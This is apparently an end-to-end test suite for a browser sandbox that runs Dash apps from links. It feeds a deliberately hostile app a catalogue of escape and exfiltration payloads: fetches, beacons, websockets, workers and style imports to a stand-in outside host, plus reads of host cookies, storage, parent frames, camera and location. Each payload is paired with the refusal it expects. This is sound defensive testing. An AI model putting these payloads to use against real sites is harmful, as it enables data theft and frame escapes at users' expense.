"""Apps in links that want out of their frame (architecture D10): each attempt is refused.

One app, which runs what it is told: JavaScript in a clientside callback, Python in a callback.  An
attempt is over when the browser has said no: by an exception, by an event of the policy, or by
an answer that has nothing in it.  Beside each attempt stands what is to refuse it: any other error,
a typo's too, is a failure.  At the end nobody outside has been asked for anything.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserType, FrameLocator, Page, expect

from tests.e2e.playground import Outside, Playground, ready_app, run_app

HOSTILE = """
from dash import Dash, Input, Output, State, callback, clientside_callback, dcc, html

app = Dash(__name__)
app.layout = html.Div([
    dcc.Textarea(id="code"), html.Button("js", id="js"), html.Button("py", id="py"),
    html.Pre("-", id="js-out"), html.Pre("-", id="py-out"),
])
clientside_callback(
    '''async (n, code) => {
        if (!n) return "-";
        const refused = new Promise((resolve) =>
            document.addEventListener("securitypolicyviolation", (event) =>
                resolve(n + " refused: " + event.effectiveDirective), {once: true}));
        try {
            const answer = await eval("(async () => {" + code + "})()");
            return answer === undefined ? await refused : n + " answer: " + answer;
        } catch (error) {
            return n + " refused: " + error.name + ": " + error.message;
        }
    }''',
    Output("js-out", "children"), Input("js", "n_clicks"), State("code", "value"),
)


@callback(Output("py-out", "children"), Input("py", "n_clicks"), State("code", "value"),
          prevent_initial_call=True)
async def run(n, code):
    scope = {}
    exec("async def attempt():\\n" + code, scope)
    try:
        return f"{n} answer: {await scope['attempt']()}"
    except Exception as error:
        return f"{n} refused: {type(error).__name__} {error}"
"""

NOTHING = "answer: "

JAVASCRIPT = {
    "fetch": ("await fetch('OUT/fetch'); return 'fetched'", "TypeError: Failed to fetch"),
    "fetch without CORS": (
        "await fetch('OUT/nocors', {mode: 'no-cors'}); return 'fetched'",
        "TypeError: Failed to fetch",
    ),
    "fetch from the host": ("await fetch('HOST'); return 'fetched'", "TypeError: Failed to fetch"),
    "fetch a file of the host": (
        "await fetch('HOSTpyrt-lock.json'); return 'fetched'",
        "TypeError: Failed to fetch",
    ),
    "image": ("new Image().src = 'OUT/image'", "img-src"),
    "image of the host": ("new Image().src = 'HOSTimage.png'", "img-src"),
    "style": ("document.body.style.background = 'url(OUT/style)'", "img-src"),
    "style sheet": ("add('link', {rel: 'stylesheet', href: 'OUT/sheet'})", "style-src-elem"),
    "import in a style": (
        "add('style', {textContent: '@import url(OUT/import)'})",
        "style-src-elem",
    ),
    "font": (
        "add('style', {textContent: '@font-face{font-family:q;src:url(OUT/font)}'});"
        "add('p', {textContent: 'x', style: 'font-family:q'})",
        "font-src",
    ),
    "script": ("add('script', {src: 'OUT/script.js'})", "script-src-elem"),
    "module": (
        "await import('OUT/module.js'); return 'imported'",
        "TypeError: Failed to fetch dynamically imported module",
    ),
    "prefetch": ("add('link', {rel: 'prefetch', href: 'OUT/prefetch'})", "default-src"),
    "preload": (
        "add('link', {rel: 'preload', as: 'script', href: 'OUT/preload'})",
        "script-src-elem",
    ),
    "icon": ("add('link', {rel: 'icon', href: 'OUT/icon'})", "img-src"),
    "web socket": ("new WebSocket('OUT/socket'.replace('http', 'ws'))", "connect-src"),
    "event source": ("new EventSource('OUT/events')", "connect-src"),
    "beacon": ("navigator.sendBeacon('OUT/beacon', 'x')", "connect-src"),
    "ping": (
        # Past the player's own way of following links.
        "const a = add('a', {href: '#x', ping: 'OUT/ping'});"
        "a.onclick = (event) => event.stopPropagation(); a.click()",
        "connect-src",
    ),
    "frame": ("add('iframe', {src: 'OUT/frame'})", "frame-src"),
    "data frame": ("add('iframe', {src: 'data:text/html,<img src=OUT/data-frame>'})", "frame-src"),
    "object": ("add('object', {data: 'OUT/object'})", "object-src"),
    "video": ("add('video', {src: 'OUT/video'})", "media-src"),
    "base": ("add('base', {href: 'OUT/'})", "base-uri"),
    "cookie of the host": ("return document.cookie", NOTHING),
    "storage of the host": ("return localStorage.getItem('secret') ?? ''", NOTHING),
    "session of the host": ("return sessionStorage.getItem('secret') ?? ''", NOTHING),
    "database": ("indexedDB.open('x'); return 'opened'", "SecurityError: Failed to execute 'open'"),
    "caches": (
        "await caches.keys(); return 'opened'",
        "SecurityError: Failed to read the 'caches'",
    ),
    "own file system": (
        "await navigator.storage.getDirectory(); return 'opened'",
        "SecurityError: Storage directory access",
    ),
    "service worker": (
        "await navigator.serviceWorker.register('HOSTframe.html'); return 'there'",
        "SecurityError: Failed to read the 'serviceWorker'",
    ),
    "page around": (
        "return parent.document.title",
        "SecurityError: Failed to read a named property 'document'",
    ),
    "storage of the page around": (
        "return parent.localStorage.secret",
        "SecurityError: Failed to read a named property 'localStorage'",
    ),
    "location of the page around": (
        "return String(parent.location)",
        "SecurityError: Failed to read a named property from 'Location'",
    ),
    "navigate top": (
        "top.location = 'OUT/top'; return 'gone'",
        "SecurityError: Failed to set a named property 'href'",
    ),
    "popup": ("return window.open('OUT/popup') ?? ''", NOTHING),
    "out of the sandbox": ("return frameElement ?? ''", NOTHING),
    "frame inside": (
        "const f = add('iframe', {srcdoc: '<p>x'});"
        "await new Promise((r) => (f.onload = r)); return f.contentWindow.document.body",
        "SecurityError: Failed to read a named property 'document'",
    ),
    "script in a frame inside": (
        "return await inside('<script>parent.postMessage(`ran`, `*`)<' + '/script>')",
        NOTHING,
    ),
    "handler in a frame inside": (
        "return await inside('<img src=x onerror=`parent.postMessage("
        "&quot;ran&quot;,&quot;*&quot;)`>')",
        NOTHING,
    ),
    "data script in a frame inside": (
        "return await inside('<script src="
        "data:text/javascript,parent.postMessage(`ran`,`*`)><' + '/script>')",
        NOTHING,
    ),
    "calls of a frame inside": (
        "return add('iframe', {}).contentWindow.RTCPeerConnection",
        "SecurityError: Failed to read a named property 'RTCPeerConnection'",
    ),
    "image in a frame inside": ("return await inside('<img src=OUT/inner>')", NOTHING),
    "worker": (
        "return await work('fetch(`OUT/worker`).then(() => postMessage(`out`),"
        " (e) => postMessage(``))')",
        NOTHING,
    ),
    "import in a worker": (
        "return await work('try { importScripts(`OUT/scripts`);"
        " postMessage(`out`) } catch { postMessage(``) }')",
        NOTHING,
    ),
    "worker from outside": (
        "new Worker('OUT/worker.js'); return 'made'",
        "SecurityError: Failed to construct 'Worker'",
    ),
    "call": (
        "const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
        "call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());"
        "return 'calling'",
        "ReferenceError: RTCPeerConnection is not defined",
    ),
    "camera": (
        "await navigator.mediaDevices.getUserMedia({video: true}); return 'seen'",
        "SecurityError: Invalid security origin",
    ),
    "place": (
        "return await new Promise((yes, no) => navigator.geolocation"
        ".getCurrentPosition(() => yes('found'), (e) => no(new Error(e.message))))",
        "Error: Geolocation has been disabled in this document by permissions policy",
    ),
}
"""Name -> body of an async function, and who refuses: a directive of the policy, the beginning of
an error, or nobody, and then there is nothing to see.  Without an answer, the policy's event is
waited for.
OUT is the address of the other host, HOST that of the player."""

HELPERS = """
const add = (tag, props) => {
    const {style, ...rest} = props;
    const element = Object.assign(document.createElement(tag), rest);
    if (style) element.style = style;
    (tag === 'link' || tag === 'base' ? document.head : document.body).append(element);
    return element;
};
const heard = (target) => new Promise((resolve) =>
    target.addEventListener('message', ({data, source}) => {
        if (source !== parent) resolve(data);
    }));
const inside = async (html) => {
    const said = heard(window);
    const frame = add('iframe', {srcdoc: html});
    const quiet = new Promise((done) => (frame.onload = () =>
        requestAnimationFrame(() => requestAnimationFrame(() => done('')))));
    return await Promise.race([said, quiet]);
};
const work = (code) => heard(new Worker('data:text/javascript,' + encodeURIComponent(code)));
"""

PYTHON = {
    "fetch": (
        "from js import fetch\nawait fetch('OUT/py-fetch')\nreturn 'fetched'",
        "JsException TypeError: Failed to fetch",
    ),
    "pyfetch": (
        "from pyodide.http import pyfetch\nawait pyfetch('OUT/pyfetch')\nreturn 'fetched'",
        "AbortError Failed to fetch",
    ),
    "urllib": (
        "import urllib.request\nreturn urllib.request.urlopen('OUT/urllib', timeout=5).read()",
        "URLError <urlopen error No answer from",
    ),
    "request": (
        "from js import XMLHttpRequest\nr = XMLHttpRequest.new()\n"
        "r.open('GET', 'OUT/request', False)\nr.send()\nreturn r.responseText",
        "JsException NetworkError: Failed to execute 'send'",
    ),
    "request of the host": (
        "from js import XMLHttpRequest\nr = XMLHttpRequest.new()\n"
        "r.open('GET', 'HOSTpyrt-lock.json', False)\nr.send()\nreturn r.responseText",
        "JsException NetworkError: Failed to execute 'send'",
    ),
    "web socket": (
        "from js import WebSocket\nfrom asyncio import Future\n"
        "from pyodide.ffi import create_once_callable\n"
        "w = WebSocket.new('OUT/py'.replace('http', 'ws'))\n"
        "f = Future()\nw.onerror = create_once_callable(lambda e: f.set_result(''))\n"
        "return await f",
        NOTHING,
    ),
    "worker": (
        "from js import Worker\nfrom asyncio import Future\n"
        "from pyodide.ffi import create_once_callable\n"
        "w = Worker.new('data:text/javascript,fetch(`OUT/py-worker`)"
        ".then(() => postMessage(`out`), () => postMessage(``))')\n"
        "f = Future()\nw.onmessage = create_once_callable(lambda e: f.set_result(e.data))\n"
        "return await f",
        NOTHING,
    ),
    "import": (
        "import js\njs.eval('WorkerGlobalScope.prototype.importScripts')\n"
        "return js.WorkerGlobalScope.prototype.importScripts.call(js.self, 'OUT/py-import')",
        "JsException NetworkError: Failed to execute 'importScripts'",
    ),
    "document": (
        "from js import document\nreturn document.cookie",
        "ImportError cannot import name 'document'",
    ),
    "storage": (
        "from js import localStorage\nreturn localStorage.getItem('secret')",
        "ImportError cannot import name 'localStorage'",
    ),
    "database": (
        "from js import indexedDB\nindexedDB.open('x')\nreturn 'opened'",
        "JsException SecurityError: Failed to execute 'open'",
    ),
}

NAVIGATIONS = {
    "address": "location = 'OUT/self'",
    "link": "add('a', {href: 'OUT/link'}).click()",
    "form": "add('form', {action: 'OUT/form', method: 'post'}).submit()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=OUT/refresh'})",
}
"""The frame itself may be sent away, but not to where anybody would hear of it."""


@pytest.fixture(scope="module")
def watched(
    browser_type: BrowserType, browser_type_launch_args: dict[str, Any]
) -> Iterator[Browser]:
    """A browser with a camera, which it gives to whoever may ask."""
    camera = ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
    args = [*browser_type_launch_args.get("args", ()), *camera]
    browser = browser_type.launch(**{**browser_type_launch_args, "args": args})
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def hostile_page(watched: Browser, playground: Playground) -> Iterator[Page]:
    """The app, in a host that has something to steal, and may see and find the user."""
    context = watched.new_context(
        permissions=["camera", "geolocation"], geolocation={"latitude": 48, "longitude": 16}
    )
    page = context.new_page()
    page.goto(f"{playground.url}frame.html")
    page.evaluate(
        "() => { document.cookie = 'secret=1'; localStorage.secret = sessionStorage.secret = 1; }"
    )
    assert page.evaluate("""async () => {
        const stream = await navigator.mediaDevices.getUserMedia({video: true});
        stream.getTracks().forEach((track) => track.stop());
        const place = await new Promise((yes, no) =>
            navigator.geolocation.getCurrentPosition(yes, no));
        return [stream.getVideoTracks().length, place.coords.latitude];
    }""") == [1, 48]
    page.goto(playground.link(HOSTILE))
    run_app(page)
    yield page
    context.close()


@pytest.fixture
def app(hostile_page: Page) -> FrameLocator:
    return hostile_page.frame_locator("iframe.app")


def attempt(app: FrameLocator, language: str, code: str) -> str:
    """What came of it.  Each answer begins with another number."""
    out = app.locator(f"#{language}-out")
    before = out.text_content() or ""
    app.locator("#code").fill(code)
    app.locator(f"#{language}").click()
    expect(out).not_to_have_text(before)
    return (out.text_content() or "").partition(" ")[2]


def told(code: str, outside: Outside, playground: Playground) -> str:
    code = code.replace("OUT", outside.url).replace("HOST", playground.url)
    return code.replace("UDP", str(outside.udp_port))


def as_expected(came: str, expected: str) -> bool:
    return came == NOTHING if expected is NOTHING else came.startswith(f"refused: {expected}")


@pytest.mark.parametrize("name", JAVASCRIPT)
def test_javascript_does_not_get_out(
    name: str, hostile_page: Page, app: FrameLocator, outside: Outside, playground: Playground
) -> None:
    code, expected = JAVASCRIPT[name]
    came = attempt(app, "js", HELPERS + told(code, outside, playground))
    assert as_expected(came, expected), came
    assert outside.asked == []
    assert hostile_page.url.startswith(playground.url)
    assert len(hostile_page.context.pages) == 1


@pytest.mark.parametrize("name", PYTHON)
def test_python_does_not_get_out(
    name: str, app: FrameLocator, outside: Outside, playground: Playground
) -> None:
    code, expected = PYTHON[name]
    lines = told(code, outside, playground).splitlines()
    came = attempt(app, "py", "".join(f"    {line}\n" for line in lines))
    assert as_expected(came, expected), came
    assert outside.asked == []


@pytest.mark.parametrize("name", NAVIGATIONS)
def test_an_app_that_sends_its_frame_away_is_ended(
    name: str, page: Page, outside: Outside, playground: Playground
) -> None:
    page.goto(playground.link(HOSTILE))
    app = run_app(page)
    app.locator("#code").fill(HELPERS + told(NAVIGATIONS[name], outside, playground))
    app.locator("#js").click()
    expect(page.get_by_role("alert")).to_contain_text("The app has ended")
    expect(page.locator("iframe.app")).to_have_count(0)
    assert outside.asked == []


def test_the_frame_shows_nothing_outside_of_the_player(page: Page, playground: Playground) -> None:
    """Whoever shows it without a sandbox, and sends it an app, gets no code of theirs to run on
    this host's origin."""
    page.goto(f"{playground.url}frame.html")
    expect(page.locator("body")).to_contain_text("shows nothing by itself")
    page.evaluate("() => window.postMessage({type: 'start', app: {}}, '*')")
    page.set_content(f'<iframe id="f" src="{playground.url}frame.html"></iframe>')
    body = page.frame_locator("#f").locator("body")
    expect(body).to_contain_text("shows nothing by itself")
    assert page.evaluate("() => document.getElementById('f').contentWindow.__pyrt_frame") is None


def test_nothing_runs_before_a_click(page: Page, playground: Playground) -> None:
    page.goto(playground.link({"app.py": "print('it runs')", "assets/a.js": "alert(1)"}))
    lines: list[str] = []
    page.on("console", lambda message: lines.append(message.text))
    expect(page.get_by_role("heading", name="This link holds an app")).to_be_visible()
    expect(page.get_by_role("listitem").filter(has_text="assets/a.js")).to_be_visible()
    # Python is there, and has been given no app.
    spare = page.frame_locator("iframe.spare")
    spare.locator("#react-entry-point").wait_for(state="attached")
    assert spare.locator("html[data-pyrt]").count() == 0
    page.get_by_role("button", name="Read the code first").click()
    expect(page.get_by_label("Code", exact=True)).to_have_text("print('it runs')")
    page.get_by_role("tab", name="assets/a.js").click()
    expect(page.get_by_label("Code", exact=True)).to_have_text("alert(1)")
    assert lines == []


def test_a_host_may_allow_an_origin(page: Page, outside: Outside, tmp_path: Path) -> None:
    code = f"await fetch('{outside.url}/allowed'); return 'fetched'"
    with Outside() as other, Playground(tmp_path / "site", allow=[outside.url]) as playground:
        page.goto(playground.link(HOSTILE))
        app = run_app(page)
        assert attempt(app, "js", code) == "answer: fetched"
        came = attempt(app, "js", code.replace(outside.url, other.url))
        assert came == "refused: TypeError: Failed to fetch"
        assert other.asked == []
    assert outside.asked.pop() == "/allowed"
    assert outside.asked == []


def test_a_host_may_trust_its_links(page: Page, tmp_path: Path) -> None:
    with Playground(tmp_path / "site", trust=True) as playground:
        page.goto(playground.link(HOSTILE))
        came = attempt(ready_app(page), "js", "return parent.document.title")
        assert came.startswith("refused: SecurityError: ")
